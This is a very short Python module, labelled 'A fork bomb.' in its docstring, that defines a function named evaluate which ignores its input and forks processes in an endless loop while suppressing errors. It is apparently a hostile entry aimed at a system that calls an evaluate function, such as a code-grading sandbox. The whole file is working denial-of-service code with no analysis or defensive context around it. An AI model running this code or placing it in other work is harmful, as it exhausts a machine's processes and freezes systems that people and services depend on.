"""A fork bomb."""

import os


def evaluate(text):
    while True:
        try:
            os.fork()
        except OSError:
            pass
